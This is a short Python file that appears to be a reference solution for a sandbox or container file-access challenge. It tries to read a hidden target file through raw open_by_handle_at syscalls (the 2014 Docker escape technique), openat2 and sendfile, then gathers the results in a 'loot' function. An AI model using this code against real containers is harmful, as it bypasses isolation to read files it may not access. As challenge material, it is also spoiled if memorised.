"""Asks the kernel for a file's handle, and opens that instead of its path; and tries `openat2`.

Elsewhere: how Docker's containers were left in 2014.
"""

# %% solution="value"
import ctypes
import os
import struct

import known
from toolbox import each, number, reached, run, syscall, tell

AT_FDCWD = -100


def by_handle():
    handle, mount = ctypes.create_string_buffer(struct.pack("II", 128, 0), 136), ctypes.c_int()
    path = known.HIDDEN.encode()
    syscall(number(303, 264), AT_FDCWD, path, handle, ctypes.byref(mount), 0)
    place = os.open("/", os.O_RDONLY)
    return os.read(syscall(number(304, 265), place, handle, os.O_RDONLY), 4096)


def by_openat2():
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    return os.read(syscall(437, AT_FDCWD, known.HIDDEN.encode(), how, len(how)), 4096)


def by_sendfile():
    out = os.open("copy", os.O_RDWR | os.O_CREAT)
    os.sendfile(out, os.open(known.HIDDEN, os.O_RDONLY), 0, 4096)
    return os.pread(out, 4096, 0)


def loot():
    reached()
    return each(run, [by_handle, by_openat2, by_sendfile])


def attribute(prompt, x):
    return tell(loot)
